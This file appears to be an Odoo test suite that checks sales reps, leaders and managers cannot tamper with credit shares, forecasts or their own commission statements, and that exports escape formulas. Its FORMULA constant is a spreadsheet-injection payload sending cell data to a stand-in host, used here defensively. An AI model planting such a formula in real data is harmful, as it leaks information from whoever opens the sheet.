"""Trust, round 3 (issue 16), for targets and commission: what a hostile rep, team leader or
manager could still do through a plain ``write``, ``create`` or JSON-RPC, and figures that
drifted. Each test takes the path of the user who would try it."""

import csv
import io
from datetime import date, datetime

import openpyxl
from psycopg2.errors import UniqueViolation

from odoo import Command
from odoo.addons.sales_compliance.tests.common import RpcError, call_kw
from odoo.exceptions import UserError, ValidationError
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from ..tools.spreadsheet import csv_safe, csv_safe_row, xlsx_write
from .common import APR, FEB, JAN, MAR, CommissionCase, TargetsCase

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Rep A")'


# ----------------------------------------------------------------------
# Credit shares
# ----------------------------------------------------------------------
class CreditShareCase(TargetsCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.mine = cls.quotation(cls.rep_a, (cls.rep_a, 100))
        cls.colleagues = cls.make_order(cls.rep_b, 50000, confirm=False)


@tagged("post_install", "-at_install")
class TestCreditShareStaysOnItsDocument(CreditShareCase):
    def test_a_rep_cannot_move_their_share_onto_a_colleagues_order(self):
        share = self.mine.credit_share_ids
        with self.assert_raises_msg(UserError, "stays on its opportunity or order"):
            share.with_user(self.rep_a).write({"order_id": self.colleagues.id})
        self.assertEqual(share.order_id, self.mine)
        self.assertFalse(self.colleagues.credit_share_ids)

    def test_a_rep_cannot_move_a_share_through_the_orders_lines_either(self):
        share = self.mine.credit_share_ids
        with self.assert_raises_msg(UserError, "stays on its opportunity or order"):
            self.mine.with_user(self.rep_a).write(
                {"credit_share_ids": [Command.update(share.id, {"order_id": self.colleagues.id})]}
            )
        lead = self.env["crm.lead"].create(
            {"name": "Rep A's deal", "type": "opportunity", "user_id": self.rep_a.id}
        )
        with self.assert_raises_msg(UserError, "stays on its opportunity or order"):
            share.with_user(self.rep_a).write({"order_id": False, "lead_id": lead.id})
        self.assertEqual(share.order_id, self.mine)
        self.assertFalse(self.colleagues.credit_share_ids | lead.credit_share_ids)
        # resending the same order is no move
        share.with_user(self.rep_a).write({"order_id": self.mine.id, "share": 100})

    def test_a_rep_cannot_move_a_share_to_another_company(self):
        """The company picks the salesperson's team: it is the document's, always."""
        other = self.env["res.company"].create({"name": "Elsewhere"})
        self.rep_a.company_ids |= other
        share = self.mine.credit_share_ids.with_user(self.rep_a).with_context(
            allowed_company_ids=[self.company.id, other.id]
        )
        with self.assert_raises_msg(UserError, "stays on its opportunity or order"):
            share.write({"company_id": other.id})
        self.assertEqual(share.company_id, self.company)
        # on create, the document's company wins
        order = self.make_order(self.rep_a, 10, confirm=False)
        new = share.create({"order_id": order.id, "user_id": self.rep_a.id, "company_id": other.id})
        self.assertEqual(new.company_id, self.company)
        self.assertEqual(new.team_id, self.team_1)

    def test_a_rep_cannot_credit_another_team(self):
        share = self.mine.credit_share_ids
        self.assertEqual(share.team_id, self.team_1)
        with self.assert_raises_msg(UserError, "counts in its salesperson's team"):
            share.with_user(self.rep_a).write({"team_id": self.team_2.id})
        self.assertEqual(share.team_id, self.team_1)
        order = self.make_order(self.rep_a, 10, confirm=False)
        with self.assert_raises_msg(UserError, "counts in its salesperson's team"):
            self.env["sales.credit.share"].with_user(self.rep_a).create(
                {"order_id": order.id, "user_id": self.rep_a.id, "team_id": self.team_2.id}
            )
        self.assertFalse(order.credit_share_ids)
        # the leader of the other team, or a manager, may credit it
        self.team_2.user_id = self.leader
        share.with_user(self.leader).write({"team_id": self.team_2.id})
        self.assertEqual(share.team_id, self.team_2)


# ----------------------------------------------------------------------
# Forecast commits
# ----------------------------------------------------------------------
class ForecastCase(TargetsCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # the leader also sells in the team they lead
        cls.env["crm.team.member"].create({"crm_team_id": cls.team_1.id, "user_id": cls.leader.id})
        cls.Commit = cls.env["sales.forecast.commit"]

    def commit_of(self, user, period=MAR, **vals):
        return self.Commit.with_user(user).create(
            {"date_from": period[0], "date_to": period[1], "commit_amount": 30000, **vals}
        )


@tagged("post_install", "-at_install")
class TestForecastAdjustment(ForecastCase):
    def test_a_team_leader_cannot_adjust_their_own_forecast(self):
        commit = self.commit_of(self.leader)
        self.assertEqual(commit.team_id, self.team_1)
        with self.assert_raises_msg(UserError, "never their own"):
            commit.with_user(self.leader).write(
                {"adjusted_commit": 90000, "adjustment_reason": "I know best"}
            )
        self.assertFalse(commit.adjusted_by_id)
        self.assertEqual(commit.final_commit, 30000)
        # nor a manager theirs; a manager adjusts the leader's
        mine = self.commit_of(self.manager)
        with self.assert_raises_msg(UserError, "never their own"):
            mine.with_user(self.manager).write({"adjusted_commit": 1, "adjustment_reason": "x"})
        commit.with_user(self.manager).write(
            {"adjusted_commit": 25000, "adjustment_reason": "Deal X slips"}
        )
        self.assertEqual(commit.adjusted_by_id, self.manager)
        self.assertEqual(commit.final_commit, 25000)
        # the leader cannot take it back either
        with self.assert_raises_msg(UserError, "ask your team leader"):
            commit.with_user(self.leader).write({"adjusted_by_id": False})
        self.assertEqual(commit.adjusted_by_id, self.manager)

    def test_a_leader_cannot_make_a_members_forecast_their_own_after_adjusting_it(self):
        commit = self.commit_of(self.rep_a)
        with self.assert_raises_msg(UserError, "ask your team leader"):
            commit.with_user(self.leader).write(
                {"user_id": self.leader.id, "adjusted_commit": 1, "adjustment_reason": "mine"}
            )
        self.assertEqual(commit.user_id, self.rep_a)
        self.assertFalse(commit.adjusted_by_id)


@tagged("post_install", "-at_install")
class TestForecastPeriod(ForecastCase):
    def test_a_rep_cannot_move_an_adjusted_forecast_to_another_month(self):
        commit = self.commit_of(self.rep_a)
        commit.with_user(self.leader).write(
            {"adjusted_commit": 20000, "adjustment_reason": "Deal Y is lost"}
        )
        mine = commit.with_user(self.rep_a)
        for vals in (
            {"date_from": "2025-04-01", "date_to": "2025-04-30"},
            {"date_from": date(2025, 2, 1)},
            {"date_to": date(2025, 4, 30)},
            {"company_id": self.env["res.company"].create({"name": "Elsewhere"}).id},
        ):
            with self.assert_raises_msg(UserError, "ask your team leader"):
                mine.write(vals)
        self.assertEqual((commit.date_from, commit.date_to), MAR)
        self.assertEqual(commit.company_id, self.company)
        # resending the unchanged period is fine
        mine.write({"date_from": "2025-03-01", "date_to": MAR[1], "commit_amount": 31000})
        self.assertEqual(commit.final_commit, 20000, "the leader's figure holds")
        # and no fresh forecast over the month stands in for the adjusted one
        with self.assertRaises(UniqueViolation), mute_logger("odoo.sql_db"):
            self.commit_of(self.rep_a)
        with self.assert_raises_msg(ValidationError, "one forecast per period"):
            self.commit_of(self.rep_a, (date(2025, 3, 2), date(2025, 3, 31)))
        self.assertEqual(self.Commit.search_count([("user_id", "=", self.rep_a.id)]), 1)


@tagged("post_install", "-at_install")
class TestForecastRpc(ForecastCase, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.rep_a.password = "tgt_rep_a_secret"
        cls.leader.password = "tgt_leader_secret"

    def test_over_rpc_a_leader_cannot_adjust_their_own_forecast(self):
        commit = self.commit_of(self.leader)
        self.authenticate("tgt_leader", "tgt_leader_secret")
        with self.assertRaisesRegex(RpcError, "never their own"):
            call_kw(
                self,
                "sales.forecast.commit",
                "write",
                [commit.ids, {"adjusted_commit": 90000, "adjustment_reason": "I know best"}],
            )
        commit.invalidate_recordset()
        self.assertFalse(commit.adjusted_by_id)

    def test_over_rpc_a_rep_cannot_move_the_adjusted_forecast_and_record_a_fresh_one(self):
        commit = self.commit_of(self.rep_a)
        commit.with_user(self.leader).write(
            {"adjusted_commit": 20000, "adjustment_reason": "Deal Y is lost"}
        )
        self.authenticate("tgt_rep_a", "tgt_rep_a_secret")
        with self.assertRaisesRegex(RpcError, "ask your team leader"):
            call_kw(
                self,
                "sales.forecast.commit",
                "write",
                [commit.ids, {"date_from": "2025-04-01", "date_to": "2025-04-30"}],
            )
        commit.invalidate_recordset()
        self.assertEqual((commit.date_from, commit.date_to), MAR)
        self.assertEqual(commit.final_commit, 20000)


# ----------------------------------------------------------------------
# Credit shares over RPC
# ----------------------------------------------------------------------
@tagged("post_install", "-at_install")
class TestCreditShareRpc(CreditShareCase, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.rep_a.password = "tgt_rep_a_secret"

    def test_over_rpc_a_rep_cannot_move_their_share_onto_a_colleagues_order(self):
        share = self.mine.credit_share_ids
        self.authenticate("tgt_rep_a", "tgt_rep_a_secret")
        with self.assertRaisesRegex(RpcError, "stays on its opportunity or order"):
            call_kw(
                self, "sales.credit.share", "write", [share.ids, {"order_id": self.colleagues.id}]
            )
        self.env.invalidate_all()
        self.assertEqual(share.order_id, self.mine)
        self.assertFalse(self.colleagues.credit_share_ids)


# ----------------------------------------------------------------------
# Exports
# ----------------------------------------------------------------------
@tagged("post_install", "-at_install")
class TestSpreadsheetEscaping(TargetsCase):
    def test_csv_cells_starting_a_formula_are_escaped(self):
        for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", FORMULA):
            self.assertEqual(csv_safe(text), "'" + text)
        for value in ("Rep A", "", "a=b", 12.5, -250.0, 0, None):
            self.assertEqual(csv_safe(value), value)
        self.assertEqual(csv_safe_row(["=x", 3, "y"]), ["'=x", 3, "y"])

    def test_xlsx_cells_are_strings_or_numbers(self):
        import xlsxwriter  # noqa: PLC0415 - optional dependency, shipped with Odoo

        from ..tools.spreadsheet import XLSX_OPTIONS  # noqa: PLC0415

        buffer = io.BytesIO()
        book = xlsxwriter.Workbook(buffer, XLSX_OPTIONS)
        sheet = book.add_worksheet()
        for col, value in enumerate((FORMULA, "http://evil.example", "42", 42.5, None)):
            xlsx_write(sheet, 0, col, value)
        book.close()
        cells = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active[1]
        self.assertEqual([c.data_type for c in cells[:4]], ["s", "s", "s", "n"])
        self.assertEqual([c.value for c in cells[:4]], [FORMULA, "http://evil.example", "42", 42.5])
        self.assertFalse(cells[1].hyperlink)


@tagged("post_install", "-at_install")
class TestStatementExportInjection(CommissionCase, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.rep_a.password = "tgt_rep_a_secret"
        cls.make_order(cls.rep_a, 8000, datetime(2025, 1, 10, 9))
        cls.statement = cls.of(cls.statements(JAN), cls.rep_a)

    def test_a_reps_formula_name_reaches_the_managers_export_as_text(self):
        self.authenticate("tgt_rep_a", "tgt_rep_a_secret")
        self.assertTrue(call_kw(self, "res.users", "write", [self.rep_a.ids, {"name": FORMULA}]))
        self.env.invalidate_all()
        self.assertEqual(self.rep_a.name, FORMULA)
        statement = self.statement.with_user(self.manager)
        # xlsx: a string cell, never a formula
        action = statement.action_export_xlsx()
        attachment_id = int(action["url"].split("/web/content/")[1].split("?")[0])
        raw = self.env["ir.attachment"].browse(attachment_id).raw
        sheet = openpyxl.load_workbook(io.BytesIO(raw)).active
        self.assertEqual(sheet["B2"].data_type, "s")
        self.assertEqual(sheet["B2"].value, FORMULA)
        self.assertEqual(sheet["K2"].data_type, "n", "amounts stay numbers")
        # CSV: escaped as OWASP advises
        rows = list(csv.reader(io.StringIO(statement._export_csv().decode("utf-8-sig"))))
        self.assertEqual(rows[1][1], "'" + FORMULA)
        self.assertAlmostEqual(float(rows[1][10]), 150)


# ----------------------------------------------------------------------
# Refunds cancelled after their clawback
# ----------------------------------------------------------------------
@tagged("post_install", "-at_install")
class TestRefundGivenBack(CommissionCase):
    def assert_given_back_once(self, refund):
        mar = self.statement(MAR)
        given = self.clawbacks(mar)
        self.assertEqual(len(given), 1)
        self.assertAlmostEqual(given.amount, 100)
        self.assertEqual(given.clawback_kind, "refund_undone")
        self.assertEqual((given.res_model, given.res_id), ("account.move", refund.id))
        self.assertAlmostEqual(mar.total_amount, 100)
        self.confirm(mar)
        self.assertFalse(self.clawbacks(self.statement(APR)), "given back once")

    def test_a_refund_cancelled_after_its_clawback_gives_the_commission_back(self):
        _order, refund = self.clawed_back_refund()
        refund.button_draft()
        refund.button_cancel()
        self.assert_given_back_once(refund)

    def test_a_refund_reversed_after_its_clawback_gives_the_commission_back(self):
        _order, refund = self.clawed_back_refund()
        reversal = refund._reverse_moves([{"invoice_date": date(2025, 3, 3)}])
        reversal.action_post()
        self.assert_given_back_once(refund)

    def test_a_refund_posted_again_is_taken_back_again(self):
        order, refund = self.clawed_back_refund()
        refund.button_draft()
        self.assert_given_back_once(refund)
        refund.action_post()
        # April, the draft after the last confirmed statement, takes it back again
        apr = self.statement(APR)
        self.assertAlmostEqual(self.clawbacks(apr).amount, -100)
        self.assertEqual(self.clawbacks(apr).clawback_kind, "refund")
        self.confirm(apr)
        # the order cancelled at last takes back the rest, 150
        order.with_context(disable_cancel_warning=True).action_cancel()
        may = self.statement((date(2025, 5, 1), date(2025, 5, 31)))
        self.assertAlmostEqual(may.clawback_amount, -150)

    def test_an_achievement_restored_gives_the_bonus_back(self):
        scheme = self.bonus_scheme()
        self.make_order(self.rep_a, 7000, datetime(2025, 1, 10, 9))
        late = self.make_order(self.rep_a, 2000, datetime(2025, 1, 20, 9))
        self.confirm(self.statement(JAN, scheme=scheme))
        late.with_context(disable_cancel_warning=True).action_cancel()
        feb = self.statement(FEB, scheme=scheme)
        self.assertAlmostEqual(feb.clawback_amount, -1000)
        self.confirm(feb)
        # the sale stands after all: the January bonus is earned again
        late.action_draft()
        late.action_confirm()
        late.date_order = datetime(2025, 1, 20, 9)
        mar = self.statement(MAR, scheme=scheme)
        given = self.clawbacks(mar)
        self.assertAlmostEqual(given.amount, 1000)
        self.assertEqual(given.clawback_kind, "bonus_undone")
        self.confirm(mar)
        self.assertFalse(self.clawbacks(self.statement(APR, scheme=scheme)), "given back once")


# ----------------------------------------------------------------------
# Commission earned on a target; statements nobody decides on alone
# ----------------------------------------------------------------------
@tagged("post_install", "-at_install")
class TestCommissionEarned(CommissionCase):
    def test_earned_counts_confirmed_and_paid_statements_of_the_targets_company(self):
        self.make_order(self.rep_a, 10000, datetime(2025, 1, 10, 9))
        statement = self.of(self.statements(JAN), self.rep_a)
        self.assertAlmostEqual(statement.total_amount, 250)
        target = self.plan.target_ids.filtered(
            lambda t: t.user_id == self.rep_a and t.date_from == JAN[0]
        ).with_user(self.rep_a)
        self.assertEqual(target.commission_earned, 0, "a draft is not earned yet")
        # a statement of another company, confirmed, for the same person and month
        other = self.env["res.company"].create({"name": "Other Co"})
        scheme = (
            self.env["sales.commission.scheme"]
            .with_company(other)
            .create(
                {
                    "name": "Other plan",
                    "base": "revenue",
                    "company_id": other.id,
                    "tier_mode": "flat",
                    "tier_ids": [Command.create({"from_pct": 0, "to_pct": 0, "rate": 10})],
                }
            )
        )
        elsewhere = self.env["sales.commission.statement"].create(
            {
                "user_id": self.rep_a.id,
                "scheme_id": scheme.id,
                "date_from": JAN[0],
                "date_to": JAN[1],
            }
        )
        elsewhere.commission_amount = 99999
        elsewhere.action_confirm()
        self.assertEqual(elsewhere.company_id, other)
        target.invalidate_recordset()
        self.assertEqual(target.commission_earned, 0)
        statement.with_user(self.manager).action_confirm()
        target.invalidate_recordset()
        self.assertAlmostEqual(target.commission_earned, 250)
        statement.with_user(self.manager).action_paid()
        target.invalidate_recordset()
        self.assertAlmostEqual(target.commission_earned, 250)


@tagged("post_install", "-at_install")
class TestOwnStatement(CommissionCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # a manager who also sells in the team the plan pays
        cls.env["crm.team.member"].create({"crm_team_id": cls.team_1.id, "user_id": cls.manager.id})
        cls.make_order(cls.manager, 10000, datetime(2025, 1, 10, 9))
        cls.own = cls.of(cls.statements(JAN), cls.manager)

    def test_adjustment_lines_cannot_pose_as_computed_lines(self):
        """An adjustment carrying a clawback origin would tell the engine a credit note was
        taken back already; turned into a commission line it would lose its reason."""
        statement = self.of(self.statements(JAN), self.rep_a)
        Line = self.env["sales.commission.statement.line"].with_user(self.manager)
        for vals in (
            {"clawback_origin": "account.move,1", "amount": -0.01},
            {"clawback_kind": "refund"},
            {"line_type": "commission"},
            {"res_model": "sale.order", "res_id": 1},
        ):
            with self.assert_raises_msg(UserError, "Only adjustment lines"):
                Line.create({"statement_id": statement.id, "reason": "fix", **vals})
        line = Line.create({"statement_id": statement.id, "amount": 10, "reason": "fix"})
        for vals in ({"line_type": "clawback"}, {"clawback_origin": "account.move,1"}):
            with self.assert_raises_msg(UserError, "Computed lines cannot be edited"):
                line.write(vals)
        self.assertEqual(line.line_type, "adjustment")
        self.assertFalse(line.clawback_origin)

    def test_a_manager_cannot_confirm_pay_or_adjust_their_own_statement(self):
        self.assertTrue(self.own)
        own = self.own.with_user(self.manager)
        with self.assert_raises_msg(UserError, "your own commission statement"):
            own.action_confirm()
        with self.assert_raises_msg(UserError, "your own commission statement"):
            self.env["sales.commission.statement.line"].with_user(self.manager).create(
                {"statement_id": own.id, "amount": 50000, "reason": "well deserved"}
            )
        self.assertEqual(own.state, "draft")
        self.assertFalse(own.line_ids.filtered(lambda line: line.line_type == "adjustment"))
        # another manager decides
        other = self.manager.copy({"login": "tgt_manager_2", "name": "Second Manager"})
        self.own.with_user(other).action_confirm()
        self.assertEqual(self.own.state, "confirmed")
        with self.assert_raises_msg(UserError, "your own commission statement"):
            own.action_paid()
        self.own.with_user(other).action_paid()
        self.assertEqual(self.own.state, "paid")


@tagged("post_install", "-at_install")
class TestTrustMessagesInChinese(ForecastCase):
    def test_a_leader_is_told_in_chinese_not_to_adjust_their_own_forecast(self):
        self.env["res.lang"]._activate_lang("zh_CN")
        self.env["ir.module.module"]._load_module_terms(
            ["sales_targets"], ["zh_CN"], overwrite=True
        )
        commit = self.commit_of(self.leader).with_context(lang="zh_CN")
        with self.assert_raises_msg(UserError, "且不能调整自己的预测"):
            commit.with_user(self.leader).write({"adjusted_commit": 1, "adjustment_reason": "x"})
        Line = self.env["sales.commission.statement.line"].with_context(lang="zh_CN")
        kinds = dict(Line._fields["clawback_kind"]._description_selection(Line.env))
        self.assertEqual(kinds["refund_undone"], "红字发票已取消或冲销:返还")
